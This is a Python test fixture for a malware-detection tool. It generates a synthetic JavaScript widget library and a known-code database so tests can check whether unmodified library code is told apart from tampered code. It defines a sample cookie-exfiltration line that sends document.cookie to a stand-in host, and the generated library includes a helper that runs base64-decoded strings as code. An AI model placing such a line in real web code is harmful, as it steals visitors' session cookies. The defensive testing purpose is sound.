"""A generated library (no corpus needed) and a database of it, for the known-code tests."""

from __future__ import annotations

from malwaresnipper.engine.known_code import (
    KnownCode,
    KnownCodeDatabase,
    SourceFile,
    build_database,
)

BANNER = "/*! Acme Widgets v1.4.2 | (c) Acme | MIT license */\n"

#: 15 tokens of exfiltration: what must never hide inside "unmodified".
EXFIL = 'new Image().src="https://collect.example/c?d="+encodeURIComponent(document.cookie);'


def acme_library(functions: int = 60, *, banner: str = BANNER) -> str:
    """About 25 KB of ordinary library code, each function a little different."""
    parts = [banner, "(function (root, factory) {\n  'use strict';\n  var VERSION = '1.4.2';\n"]
    for i in range(functions):
        parts.append(
            f"  // widget {i}: counts the items it manages\n"
            f"  function widget{i}(el, options) {{\n"
            f"    var opts = extend({{}}, defaults{i % 5}, options || {{}});\n"
            f"    if (!el || el.nodeType !== 1) {{ throw new Error('widget{i}: element expected'); }}\n"
            f"    var items = el.querySelectorAll('.item-{i}'), count = 0;\n"
            f"    for (var k = 0; k < items.length; k++) {{\n"
            f"      if (/^x{i}-\\d+$/.test(items[k].id)) {{ count += {i} * k / 2; }}\n"
            f"    }}\n"
            f"    return {{ count: count, label: opts.prefix + \"{i}\", size: `${{count}}px` }};\n"
            f"  }}\n"
            f"  root.widget{i} = widget{i};\n"
        )
    parts.append("  root.Acme = { version: VERSION, decode: function (s) { return new Function(atob(s)); } };\n")
    parts.append("})(this, null);\n")
    return "".join(parts)


def acme_database(text: str | None = None) -> KnownCodeDatabase:
    return build_database([SourceFile(text or acme_library(), "acme-widgets", "1.4.2", "dist/acme.js", "test")])


def acme_known() -> KnownCode:
    return KnownCode([acme_database()])
